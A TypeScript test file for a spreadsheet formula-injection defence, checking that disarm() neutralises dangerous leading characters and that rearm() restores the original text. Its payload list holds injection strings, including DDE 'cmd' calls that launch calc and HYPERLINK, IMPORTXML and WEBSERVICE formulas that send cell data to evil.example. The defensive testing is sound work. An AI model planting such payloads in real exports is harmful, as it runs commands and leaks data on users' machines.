import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { disarm, rearm } from "./disarm.ts";

/** Texts that spreadsheets have run, and their disguises. T24. */
const payloads = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+91 98765 43210",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "-",
  "@SUM(1+1)",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "@",
  "=",
  "==1",
  " =1+1",
  "   +1",
  "\u00a0=1+1",
  "\u3000@SUM(1)",
  "\ufeff=1+1",
  "\u2003-1",
  "\t=1+1",
  "\tplain",
  "\r=1+1",
  "\rplain",
  "\n=1+1",
  "\nplain",
  " \tplain",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
  " ＝1",
  "−1",
  "﹦1",
  "'=1+1",
  "''@SUM(1)",
];

const isActive = (cell: string) => /^\s*[=+\-@＝＋－＠−﹦\t\r\n]/u.test(cell);

describe("a cell", () => {
  it.each(payloads)("never begins a formula: %j", (text) => {
    const cell = disarm(text);
    expect(isActive(cell)).toBe(false);
    // Where a spreadsheet takes a leading apostrophe for its own mark, the rest is text to it.
    expect(cell.startsWith("'")).toBe(true);
    expect(rearm(cell)).toBe(text);
  });

  it("that is harmless stays as it is", () => {
    for (const text of ["", "Wallbox", "'quoted'", "7.4 kW", "1-2", "a=b", "''"]) expect(disarm(text)).toBe(text);
  });

  it("comes back as the text it was, whatever that was", () => {
    const piece = fc.constantFrom(..."='+-@ \t\r\na'＝＋－＠", "x", ...payloads);
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.array(piece, { maxLength: 8 }).map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(text, (original) => {
        const cell = disarm(original);
        expect(isActive(cell)).toBe(false);
        expect(rearm(cell)).toBe(original);
      }),
      { numRuns: 1000 },
    );
  });
});
